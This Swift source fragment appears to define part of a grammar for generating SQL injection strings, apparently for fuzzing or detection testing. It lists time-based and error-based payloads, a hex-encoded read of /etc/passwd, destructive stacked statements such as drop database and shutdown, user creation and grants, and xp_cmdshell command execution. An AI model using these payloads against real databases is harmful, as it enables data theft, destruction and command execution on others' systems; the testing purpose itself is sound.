/// The other half of the grammar of injections: calls, stacked statements, values, and ways in and out.
let payloadPieces =
  #"""
  call
    <telling>
    <telling>
    <function>(<operand>)
    <function>(<operand>,<operand>)
    <function>(<function>(<operand>),<number>,<number>)
    <function>(<subselect>)
    <function>(<subselect>,<number>,<number>)
  telling
    sleep(<number2>)
    iif(<condition>,<number>,<number>)
    version()
    database()
    user()
    current_user()
    benchmark(<number2>,md5(<number>))
    pg_sleep(<number2>)
    load_file(<string>)
    load_file(0x2f6574632f706173737764)
    extractvalue(<number>,concat(0x7e,<call>))
    updatexml(<number>,concat(0x7e,<subselect>),<number>)
    char(<number>,<number>)
    chr(<number2>)||chr(<number>)
    ascii(substring((select <word> from <word>),1,1))
    utl_inaddr.get_host_address(<call>)
    dbms_pipe.receive_message(chr(65),<number2>)
    randomblob(<number2>)
    system_user()
  function
    ascii
    substring
    substr
    mid
    ord
    concat
    length
    hex
    unhex
    char
    convert
    cast
    lower
    if
    ifnull
    coalesce
    md5
    count
    count
    sum
    exp
    greatest
    elt
    left
    right
    group_concat
    make_set
    round
  stacked
    drop table <word>
    begin user_lock.sleep(<number2>); end
    begin dbms_lock.sleep(<number2>); end;
    iif(<condition>,<number>,<number>)
    drop database <word>
    insert into <word> values(<operand>,<operand>)
    insert into <word>(<word>,<word>) values (<operand>,<operand>)
    update <word> set <word>=<operand>
    update <word> set <word>=<operand> where <condition>
    delete from <word>
    delete from <word> where <condition>
    create table <word> (<word> int)
    create user <word> identified by <string>
    alter table <word> add <word> int
    truncate table <word>
    grant all on <word> to <word>
    select <list>
    select <list> from <word>
    select * from <word>
    copy <word> from <string>
    begin declare @<word> int end
    if (<condition>) select <call>
    if <condition> waitfor delay <string>
    if <condition> shutdown
    set @<word>=<operand>
    use <word>
    call <word>(<operand>)
  stacked2
    exec xp_cmdshell <string>
    exec master..xp_cmdshell <string>
    exec(<string>)
    execute immediate <string>
    exec sp_<word> <string>
    use <word>; exec xp_cmdshell <string>
    use <word>; exec xp_cmdshell 'copy c:\<word>
    execute sp_<word> @<word>=<string>
    exec(@<word>)
    exec(@<word>+@<word>)
    exec <word>..sp_<word> @<word>=<operand>,@<word>=<operand>
    declare @<word> varchar(100) set @<word>=<operand>
    declare @<word> int;select @<word>=<number>
    waitfor delay <string>
    waitfor time <string>
    shutdown
    shutdown with nowait
    xp_cmdshell(<string>)
  logic
    or
    and
    or
    and
    xor
    ||
    &&
    OR
    AND
  fuzz
     ( <nested> )  --
    ( (SELECT <nested>) ) -- 
    <value> - (<nested>) --
    <prefix>' - ( <nested> )  --
  nested
    1
    'b'
    @a
    COS ( <nested>)
    ( BINARY ( <nested>))
    ( SELECT <nested>)
    ( SELECT <nested> LIMIT 1)
    <nested> in ( <nested>)
    <nested> OR <nested>
    <nested> * <nested>
    <nested> UNION ( SELECT <nested>)
  union
    union
    union all
    UNION
    UNION ALL
    union distinct
    intersect
    except
  not
    <empty>
    not 
    !
  empty
  value
    1
    -1
    0
    42
    999999.9
    -1
    10
    <word>
    null
    true
    @x
    0x31
    1.5
    ''
    'a'
    "a"
  prefix
    <empty>
    1
    -1
    0
    x
    admin
    foo bar
    a@b.c
    2020-01-01
  short
    <empty>
    A
    x
  suffix
    <empty>
    1
    x
    a
    %
    b' 
  closing
    <empty>
    <empty>
    <empty>
    )
    ))
  closers
    )
    ))
  blank
    <empty>
     <empty>
  operand
    1
    <number>
    <number>
    <string>
    <word>
    @@version
    null
    true
    0x41
    <call>
    -<number>
    (<number>)
    <number><arith><number>
    <word>.<word>
    current_user
    @x
  number
    1
    0
    2
    7
    1337
  number2
    5
    10
    99
    3
  word
    users
    id
    name
    password
    x
    information_schema.tables
    admin
    tbl
    `users`
    column
    t1
  string
    'a'
    'x'
    '1'
    ''
    "a"
    0x61
    char(97)
    'abc%'
    N'a'
  tuple
    <empty>
    )
    ,<operand>)
    ,<operand>,<operand>)
  cut
    --
     --
     -- -
    -- x
    #
     #
    /*
     /*
    ;--
    ;#
    ;%00
    ; -- x
    )--
    -- -
  commentMark
    or 1=1--
    or 1=1#
    union--
  bareEnd
    <empty>
    <empty>
    <cut>
    <cut>
    <empty> limit 1
    <empty> limit 0,1
    ;
  reopenSingle
    and '1'='1
    and 'a'='a
    or '1'='1
    or 'a'='b
    or '
    and '1
    or ('1'='1
    and ('x'='x
    and 'a' like 'a
    || '
    and 1='1
    or x='
    || 'a
    and '1'>'0
    like '
    or "a"='a
  reopenDouble
    and "1"="1
    and "a"="a
    or "1"="1
    or "a"="b
    or "
    and "1
    or ("1"="1
    and "a" like "a
    || "
    and 1="1
    or x="
    like "
  """#
